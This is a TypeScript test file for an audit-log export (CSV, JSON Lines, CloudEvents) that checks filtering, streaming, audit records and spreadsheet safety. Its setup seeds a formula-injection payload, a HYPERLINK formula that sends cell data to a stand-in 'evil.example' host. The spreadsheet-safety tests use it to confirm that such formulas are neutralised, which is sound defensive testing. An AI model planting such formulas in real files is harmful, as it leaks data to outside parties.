// Export of the viewer's filter: CSV, JSON Lines and CloudEvents hold exactly the events the
// filter matches (the same oracle as the viewer tests), arrive in several chunks as they are
// read, stop at the newest event that existed when the export began, cannot smuggle a formula
// into a spreadsheet, and are audited with their filter; a bad filter exports and records nothing.
import { beforeAll, describe, expect, it } from "vitest";
import { exportAuditEvents, EXPORT_BATCH } from "@/lib/audit/export-audit";
import { csvCell, CSV_COLUMNS } from "@/lib/audit/export-formats";
import { recordAudit } from "@/lib/audit/record";
import { db } from "@/lib/db/client";
import { pool } from "@/lib/db/pool";
import { AppError } from "@/lib/http/errors";
import { actorOf, makePerson } from "./admin-fixtures";
import { addDecision, oracle, sampleValues, seedTrail, type Params } from "./audit-viewer-fixtures";

type Person = Awaited<ReturnType<typeof makePerson>>;
let auditor: Person;
let values: Awaited<ReturnType<typeof sampleValues>>;
let agentSlugs: string[];
const SOURCE = "https://mandate.example/audit";

beforeAll(async () => {
  ({ agentSlugs } = await seedTrail(1_600));
  await addDecision(agentSlugs[0]!, '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")');
  await addDecision(agentSlugs[0]!, "@SUM(1+1) looks harmless, \"quoted\", with a comma\nand a new line");
  auditor = await makePerson(["auditor"]);
  values = await sampleValues();
}, 60_000);

async function run(query: Params, options: { onFirstChunk?: () => Promise<void> } = {}): Promise<{ text: string; chunks: number }> {
  const result = await exportAuditEvents(auditor, actorOf(auditor), query, SOURCE);
  const reader = result.body.getReader();
  const decoder = new TextDecoder();
  let text = "";
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return { text, chunks };
    chunks += 1;
    text += decoder.decode(value, { stream: true });
    if (chunks === 1) await options.onFirstChunk?.();
  }
}

/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 1;
    } else cell += ch;
  }
  return rows;
}

describe("what an export holds", () => {
  it("CSV: exactly the filter's events, newest first, one header and fixed columns", async () => {
    const filters: Params[] = [{}, { agent: values.busyAgent }, { effect: "deny" }, { q: "refund" }, { from: values.from, to: values.to }, { type: "checkpoint.approved" }];
    for (const filter of filters) {
      // Taken first: the export's own audit.exported event comes after the export's last event.
      const expected = await oracle(filter);
      const { text, chunks } = await run({ ...filter, format: "csv" });
      const [header, ...rows] = parseCsv(text);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
      expect(rows.map((row) => row[0]), JSON.stringify(filter)).toEqual(expected);
      if (expected.length > EXPORT_BATCH) expect(chunks).toBeGreaterThan(2);
    }
  }, 60_000);

  it("JSON Lines: one parseable event per line with its data and reasoning as JSON", async () => {
    const filter = { agent: values.busyAgent, type: "decision.made" };
    const { text } = await run({ ...filter, format: "jsonl" });
    const lines = text.trimEnd().split("\n").map((line) => JSON.parse(line) as { id: string; type: string; agent: string; data: { effect: string }; reasoning: { instruction: string } });
    expect(lines.map((line) => line.id)).toEqual(await oracle(filter));
    expect(lines.every((line) => line.type === "decision.made" && line.agent === values.busyAgent && typeof line.reasoning.instruction === "string")).toBe(true);
  });

  it("CloudEvents: one JSON batch of structured 1.0 events", async () => {
    const filter = { trace: values.trace };
    const { text } = await run({ ...filter, format: "cloudevents" });
    const events = JSON.parse(text) as Array<Record<string, unknown>>;
    expect(events.map((event) => event.id)).toEqual(await oracle(filter));
    for (const event of events) {
      expect(event).toMatchObject({ specversion: "1.0", source: SOURCE, datacontenttype: "application/json" });
      expect(event.type).toMatch(/^dev\.mandate\./);
      expect(new Date(event.time as string).toISOString()).toBe(event.time);
      expect((event.data as { traceId: string }).traceId).toBe(values.trace);
    }
    const empty = await run({ agent: "nobody-here", format: "cloudevents" });
    expect(JSON.parse(empty.text)).toEqual([]);
  });

  it("stops at the newest event that existed when it started, whatever arrives meanwhile", async () => {
    const before = await oracle({});
    const { text } = await run(
      { format: "jsonl" },
      {
        onFirstChunk: async () => {
          for (let i = 0; i < 5; i += 1) await recordAudit(db(), { type: "system", via: "test" }, { type: "test.arrived", data: { i } });
        },
      },
    );
    const ids = text.trimEnd().split("\n").map((line) => (JSON.parse(line) as { id: string }).id);
    expect(ids).toEqual(before);
  });
});

describe("spreadsheet safety", () => {
  it("prefixes formula-like cells with an apostrophe and quotes what needs quoting", async () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+44 20")).toBe("'+44 20");
    expect(csvCell("-2")).toBe("'-2");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=cmd")).toBe("'\t=cmd");
    expect(csvCell("  =cmd")).toBe("'  =cmd");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell("plain 1-2")).toBe("plain 1-2");
    const { text } = await run({ agent: agentSlugs[0]!, q: "HYPERLINK", format: "csv" });
    const [, row] = parseCsv(text);
    const instruction = row![CSV_COLUMNS.indexOf("instruction")]!;
    expect(instruction.startsWith("'=HYPERLINK(")).toBe(true);
    const multi = parseCsv((await run({ q: "looks harmless", format: "csv" })).text)[1]!;
    expect(multi[CSV_COLUMNS.indexOf("instruction")]).toBe("'@SUM(1+1) looks harmless, \"quoted\", with a comma\nand a new line");
    for (const cells of parseCsv((await run({ agent: agentSlugs[0]!, format: "csv" })).text).slice(1)) {
      for (const value of cells) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("auditing and refusals", () => {
  it("records who exported which filter in which format, up to which event", async () => {
    const top = (await pool().query<{ id: string }>("SELECT max(id)::text AS id FROM audit_event")).rows[0]!.id;
    await run({ agent: values.busyAgent, effect: "deny", format: "jsonl", before: "5" });
    const recorded = await db().auditEvent.findFirstOrThrow({ where: { type: "audit.exported" }, orderBy: { id: "desc" } });
    expect(recorded.actorPersonId).toBe(auditor.id);
    expect(recorded.data).toMatchObject({ format: "jsonl", filter: { agent: values.busyAgent, effect: "deny" }, throughId: top });
    expect((recorded.data as { filter: Record<string, string> }).filter).not.toHaveProperty("before");
  });

  it("a bad filter or format is refused, names the field, and records nothing", async () => {
    const count = await db().auditEvent.count();
    for (const [query, path] of [
      [{ format: "xlsx" }, "format"],
      [{ format: "csv", effect: "maybe" }, "effect"],
      [{ format: "csv", from: "2026-02-30" }, "from"],
    ] as const) {
      const error = await exportAuditEvents(auditor, actorOf(auditor), query, SOURCE).then(() => null, (caught: unknown) => caught);
      expect(error).toBeInstanceOf(AppError);
      expect((error as AppError).code).toBe("validation_failed");
      expect((error as AppError).fields?.map((field) => field.path)).toContain(path);
    }
    expect(await db().auditEvent.count()).toBe(count);
  });
});
